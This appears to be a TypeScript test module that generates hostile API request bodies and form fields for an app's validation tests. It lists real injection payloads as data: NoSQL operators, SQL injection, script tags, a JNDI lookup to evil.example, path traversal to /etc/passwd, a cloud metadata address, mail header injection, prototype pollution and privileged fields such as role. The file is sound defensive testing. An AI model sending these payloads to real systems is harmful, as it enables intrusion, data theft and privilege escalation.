import type { z } from '@inkognito/shared/schema/zod';
import type { RequestParts } from './requests.ts';

/** Database operators, wrong types, library exploits. */
export const hostileValues: readonly unknown[] = [
  { $ne: null },
  { $gt: '' },
  { $regex: '.*' },
  { $in: ['a', 'b'] },
  { $where: 'sleep(3000)' },
  { $expr: { $eq: [1, 1] } },
  { toString: 1 },
  { _bsontype: 'ObjectId', id: '0'.repeat(24) },
  { length: 3 },
  {},
  [],
  [[]],
  [{ $ne: null }],
  ['a', 7],
  7,
  -1e308,
  true,
  null,
  '',
  'x'.repeat(30_000),
];

/** What interpreters, browsers, mails and terminals take for more than text. */
export const hostileTexts: readonly string[] = [
  ...['\uD800', 'a\uDFFFb', 'a\u0000b', '\u202Etxt.exe', '\u0007\u001B[31m', '%s%n%p'],
  ...["' OR '1'='1", '{"$where":"sleep(5000)"}', '$ne', '`id`', '{{7*7}}', '=cmd|" /c calc"!A1'],
  ...['<svg/onload=alert(1)>', '"><script>alert(1)</script>', 'javascript:alert(1)'],
  ...['${jndi:ldap://evil.example/a}', '../../etc/passwd', 'http://169.254.169.254/latest/'],
  ...['x\r\nBcc: evil@evil.example', 'x%0d%0aSet-Cookie:a=b', '__proto__', 'constructor', '1e309'],
];

/** Passwords may hold any character, tokens are compared and never shown, a pasted text is not stored. */
const anyCharacter = new Set(['password', 'currentPassword', 'token', 'code', 'text']);

/** Stored fields that no request may set. */
export const foreignFields: Record<string, unknown> = {
  _id: '0'.repeat(24),
  __v: 7,
  role: ['recruiter'],
  emailVerified: true,
  accessPassword: 'AAAA-BBBB-CCCC',
  accessPasswordHash: 'x',
  passwordHash: 'x',
  searchKeys: ['x'],
  imageId: '0'.repeat(24),
  userId: '0'.repeat(24),
  recruiterId: '0'.repeat(24),
  candidateId: '0'.repeat(24),
  fingerprint: 'x',
  titleKeys: ['x'],
  isMatch: true,
  matchPercentage: 100,
  matchesForJobSeeker: [],
  jobsBlocked: [],
  createdAt: '2020-01-01T00:00:00.000Z',
  expiresAt: null,
  mutedNotifications: ['newMatch'],
  $set: { role: ['recruiter'] },
  $where: '1',
  'salary.min': 1,
  constructor: { prototype: { polluted: true } },
};

/** Of a type that a field may have: the schema decides, at this very path. */
function isPlain(present: unknown, value: unknown): boolean {
  if (value === null || value === '') return true;
  if (typeof value === 'object') {
    const isSameKind =
      typeof present === 'object' && Array.isArray(value) === Array.isArray(present);
    return Object.keys(value).length === 0 && isSameKind;
  }
  const isSameType = present === null || typeof value === typeof present;
  return ['number', 'boolean'].includes(typeof value) && isSameType;
}

export type HostileBody = { what: string; body: unknown; field?: string };

/** A valid body with one thing wrong, for every case. */
export function hostileBodies(good: object, schema: z.ZodType): HostileBody[] {
  const wrongValues = pathsOf(good).flatMap(([path, present]) =>
    [...hostileValues, ...withControls(path, present)].flatMap((value) => {
      const body = put(good, path, value);
      if (isPlain(present, value) && schema.safeParse(body).success) return [];
      const field = path.join('.');
      const isNamed = typeof value === 'string' && /\p{Cc}/u.test(value);
      return [{ what: `${field}: ${short(value)}`, body, ...(isNamed && { field }) }];
    }),
  );
  const foreign = Object.entries(foreignFields)
    .filter(([field]) => !(field in good) || field === 'constructor')
    .map(([field, value]) => ({ what: `foreign ${field}`, body: { ...good, [field]: value } }));
  return [...wrongValues, ...foreign];
}

function withControls(path: string[], present: unknown): unknown[] {
  if (anyCharacter.has(path.at(-1) ?? '')) return [];
  const texts = ['\u0000', '\u0007', '\u001b', '\u007f', '\u0085'].map((sign) => `ab${sign}cd`);
  if (Array.isArray(present)) return texts.map((text) => [text]);
  return typeof present === 'string' ? texts : [];
}

type Path = [path: string[], value: unknown];

function pathsOf(value: object, above: string[] = []): Path[] {
  return Object.entries(value).flatMap(([key, part]: [string, unknown]): Path[] => {
    const path = [...above, key];
    const isObject = typeof part === 'object' && part !== null && !Array.isArray(part);
    return [[path, part], ...(isObject ? pathsOf(part, path) : [])];
  });
}

function put(target: object, [key = '', ...rest]: string[], value: unknown): object {
  const part = (target as Record<string, unknown>)[key];
  return { ...target, [key]: rest.length > 0 ? put(part as object, rest, value) : value };
}

const short = (value: unknown) => (JSON.stringify(value) as string | undefined)?.slice(0, 40) ?? '';

/** Not an object, not JSON, or too large; with the expected status. */
export const brokenBodies: readonly {
  what: string;
  text: string;
  type?: string;
  status: number;
}[] = [
  { what: 'broken JSON', text: '{"password":"geheim', status: 400 },
  { what: 'a string', text: '"text"', status: 400 },
  { what: 'a number', text: '7', status: 400 },
  { what: 'null', text: 'null', status: 400 },
  { what: 'a list', text: '[]', status: 400 },
  { what: 'nothing', text: '', status: 400 },
  { what: '8,000 lists in lists', text: '['.repeat(8_000) + ']'.repeat(8_000), status: 400 },
  { what: 'own prototype', text: '{"__proto__":{"polluted":true}}', status: 400 },
  { what: '5 MB', text: JSON.stringify({ a: 'x'.repeat(5_000_000) }), status: 413 },
  { what: 'plain text', text: '{}', type: 'text/plain', status: 415 },
  {
    what: 'a web form',
    text: 'a=1&a[$ne]=2',
    type: 'application/x-www-form-urlencoded',
    status: 415,
  },
  { what: 'strange letters', text: '{}', type: 'application/json; charset=x-none', status: 415 },
];

export const hostileForms: readonly RequestParts[] = [
  { form: { 'phoneNumber[$gt]': '' } },
  { form: { 'email[$ne]': 'x' } },
  { form: { 'calendarLink[]': 'https://a.example' } },
  { form: { 'showContactPrefs[phone][$ne]': 'true' } },
  { form: { 'showContactPrefs[owner]': 'true' } },
  { form: { showContactPrefs: 'true' } },
  { form: { '__proto__[polluted]': 'true' } },
  { form: { 'constructor[prototype][polluted]': 'true' } },
  { form: { discoverable: '1' } },
  { form: { releaseMode: 'sofort' } },
  { form: { calendarLink: 'javascript:alert(1)' } },
  { form: { calendarLink: 'https://user@evil.example' } },
  { form: { phoneNumber: '<script>' } },
  { form: { phoneNumber: '+49 170\u0007 5550123' } },
  { form: { email: 'anna\u0000@beispiel.example' } },
  { form: { calendarLink: 'https://kalender.example/\u0085a' } },
  { form: { phoneNumber: 'x'.repeat(25_000) } },
  { form: Object.fromEntries(Array.from({ length: 60 }, (_, index) => [`field${index}`, 'x'])) },
  ...Object.keys(foreignFields).map((field) => ({ form: { [field]: 'x' } })),
];
